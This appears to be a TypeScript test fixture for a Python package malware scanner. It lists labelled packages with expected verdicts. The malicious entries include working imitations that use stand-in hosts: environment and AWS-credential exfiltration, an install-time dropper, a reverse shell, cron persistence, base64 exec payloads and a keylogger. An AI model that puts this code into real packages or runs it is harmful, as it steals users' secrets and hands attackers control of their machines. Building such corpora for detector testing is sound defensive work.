/**
 * The labelled corpus: whole packages written by us, each with the verdict it
 * must get. The malicious ones are inert imitations of real PyPI malware
 * families (stealers, droppers, .pth implants, reverse shells, typosquats);
 * every host is under example.invalid. The clean ones use the same
 * capabilities the way honest packages do.
 */
import type { Verdict } from '../../../src/analyze/verdict.js';
import type { ArtifactSpec } from './pack.js';

export interface LabelledArtifact extends ArtifactSpec {
  verdict: Verdict;
  /** A rule whose finding must be among the reasons. */
  because?: string;
}

export const labelledCorpus: LabelledArtifact[] = [
  {
    verdict: 'malicious',
    because: 'combo.secrets-exfiltration',
    kind: 'wheel',
    name: 'reqeusts',
    version: '2.31.0',
    files: {
      'requests/__init__.py': `import json, os, urllib.request

def _telemetry():
    body = json.dumps(dict(os.environ)).encode()
    urllib.request.urlopen(urllib.request.Request("https://collect.example.invalid/e", data=body))

_telemetry()
`,
    },
  },
  {
    verdict: 'malicious',
    because: 'code.run-dropped-file',
    kind: 'sdist',
    name: 'colourama',
    version: '0.4.7',
    files: {
      'setup.py': `import os, urllib.request
from setuptools import setup
from setuptools.command.install import install

class PostInstall(install):
    def run(self):
        urllib.request.urlretrieve("https://cdn.example.invalid/update.bin", "/tmp/.update")
        os.chmod("/tmp/.update", 0o755)
        os.system("/tmp/.update &")
        install.run(self)

setup(name="colourama", version="0.4.7", packages=["colourama"], cmdclass={"install": PostInstall})
`,
      'colourama/__init__.py': 'from .ansi import Fore\n',
      'colourama/ansi.py': 'class Fore:\n    RED = "\\x1b[31m"\n',
    },
  },
  {
    verdict: 'malicious',
    because: 'code.exfil-to-drop',
    kind: 'wheel',
    name: 'aws-cdk-helperz',
    version: '1.2.0',
    files: {
      'aws_cdk_helperz/__init__.py': 'from .creds import sync\n',
      'aws_cdk_helperz/creds.py': `import os, requests

HOOK = "https://discord.com/api/webhooks/101/XyZ"

def _read():
    return open(os.path.expanduser("~/.aws/credentials")).read()

def sync():
    requests.post(HOOK, json={"content": _read()})
`,
    },
  },
  {
    verdict: 'malicious',
    because: 'install.pth-exec-payload',
    kind: 'wheel',
    name: 'fastjson-utils',
    version: '3.0.1',
    files: {
      'fastjson_utils/__init__.py': 'import json\nloads = json.loads\n',
      'fastjson_utils-init.pth': 'import base64; exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="))\n',
    },
  },
  {
    verdict: 'malicious',
    because: 'code.exec-decoded-payload',
    kind: 'wheel',
    name: 'py-fastcache',
    version: '1.0.3',
    files: {
      'py_fastcache/__init__.py': `import base64, zlib
_BLOB = b"eJwrKMrMK1FIzs8rSc0rAQAeLgRS"
exec(zlib.decompress(base64.b64decode(_BLOB)))
`,
    },
  },
  {
    verdict: 'malicious',
    because: 'combo.reverse-shell',
    kind: 'wheel',
    name: 'netdiag-tools',
    version: '0.3.0',
    files: {
      'netdiag_tools/__init__.py': `import os, socket, subprocess

def check(host="c2.example.invalid", port=4444):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((host, port))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    os.dup2(s.fileno(), 2)
    subprocess.call(["/bin/sh", "-i"])
`,
    },
  },
  {
    verdict: 'malicious',
    because: 'combo.persistence-download',
    kind: 'sdist',
    name: 'sysupdate-agent',
    version: '1.0.0',
    files: {
      'setup.py': 'from setuptools import setup\nsetup(name="sysupdate-agent", packages=["sysupdate_agent"])\n',
      'sysupdate_agent/__init__.py': `import os, urllib.request

def install():
    urllib.request.urlretrieve("https://cdn.example.invalid/agent", os.path.expanduser("~/.cache/.agent"))
    os.system('(crontab -l; echo "@reboot ~/.cache/.agent") | crontab -')
`,
    },
  },
  {
    verdict: 'malicious',
    because: 'combo.surveillance-exfiltration',
    kind: 'wheel',
    name: 'keyboard-helper',
    version: '2.0.0',
    files: {
      'keyboard_helper/__init__.py': `from pynput import keyboard
import requests

def start():
    buffer = []
    def on_press(key):
        buffer.append(str(key))
        if len(buffer) > 50:
            requests.post("https://collect.example.invalid/k", data="".join(buffer))
            buffer.clear()
    keyboard.Listener(on_press=on_press).start()
`,
    },
  },
  {
    verdict: 'suspicious',
    because: 'install.console-script-shadowing',
    kind: 'wheel',
    name: 'pip-turbo',
    version: '1.0.0',
    files: { 'pip_turbo/__init__.py': 'def main():\n    print("fast pip")\n' },
    entryPoints: '[console_scripts]\npip = pip_turbo:main\npip-turbo = pip_turbo:main\n',
  },
  {
    verdict: 'suspicious',
    because: 'install.sitecustomize',
    kind: 'wheel',
    name: 'site-tweaks',
    version: '1.1.0',
    files: { 'sitecustomize.py': 'import sys\nsys.dont_write_bytecode = True\n' },
  },
  {
    verdict: 'suspicious',
    because: 'code.obfuscation-pyarmor',
    kind: 'wheel',
    name: 'armored-lib',
    version: '1.0.0',
    files: {
      'armored_lib/__init__.py': "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'\\x50\\x59')\n",
      // Readable text written as escapes, so that a reviewer cannot read it either.
      'armored_lib/names.py': 'TARGET = "' + [...'https://example.invalid/api/collect'].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('') + '"\n',
    },
  },
  {
    verdict: 'clean',
    kind: 'wheel',
    name: 'honest-http',
    version: '2.4.0',
    files: {
      'honest_http/__init__.py': `import json, os, subprocess, requests

def fetch(url):
    return requests.get(url, timeout=10).json()

def publish(url, item):
    token = os.environ.get("HONEST_TOKEN", "")
    return requests.post(url, json=item, headers={"Authorization": token})

def version():
    return subprocess.run(["git", "describe"], capture_output=True, text=True).stdout

def config():
    with open(os.path.expanduser("~/.config/honest/config.json")) as f:
        return json.load(f)
`,
    },
  },
  {
    verdict: 'clean',
    kind: 'sdist',
    name: 'honest-ext',
    version: '0.9.0',
    files: {
      'setup.py': `import subprocess
from setuptools import setup, Extension
from setuptools.command.build_ext import build_ext

class BuildExt(build_ext):
    def build_extensions(self):
        build_ext.build_extensions(self)

version = subprocess.check_output(["git", "describe", "--tags"]).decode().strip()
setup(name="honest-ext", version=version, ext_modules=[Extension("honest_ext._fast", ["src/fast.c"])], cmdclass={"build_ext": BuildExt})
`,
      'honest_ext/__init__.py': 'from ._fast import add\n',
    },
  },
  {
    verdict: 'clean',
    kind: 'wheel',
    name: 'honest-cli',
    version: '1.0.0',
    files: {
      'honest_cli/__init__.py': 'def main():\n    print("hello")\n',
      '_honest_cli_hook.py': 'def install():\n    pass\n',
      'honest_cli.pth': 'import _honest_cli_hook; _honest_cli_hook.install()\n',
    },
    entryPoints: '[console_scripts]\nhonest = honest_cli:main\n',
  },
  {
    verdict: 'clean',
    kind: 'wheel',
    name: 'honest-daemon',
    version: '3.2.1',
    files: {
      'honest_daemon/__init__.py': `import os, socket, sys

def daemonize():
    devnull = open(os.devnull, "r+")
    os.dup2(devnull.fileno(), sys.stdin.fileno())
    os.dup2(devnull.fileno(), sys.stdout.fileno())

def serve(port):
    s = socket.socket()
    s.bind(("127.0.0.1", port))
    s.listen()
    conn, _ = s.accept()
    conn.sendall(b"ok")
`,
    },
  },
  {
    verdict: 'clean',
    kind: 'wheel',
    name: 'honest-uploader',
    version: '5.0.0',
    files: {
      'honest_uploader/__init__.py': `import configparser, os, requests

def read_pypirc():
    config = configparser.ConfigParser()
    config.read(os.path.expanduser("~/.pypirc"))
    return config

def upload(url, files, auth):
    return requests.post(url, files=files, auth=auth)
`,
    },
  },
];
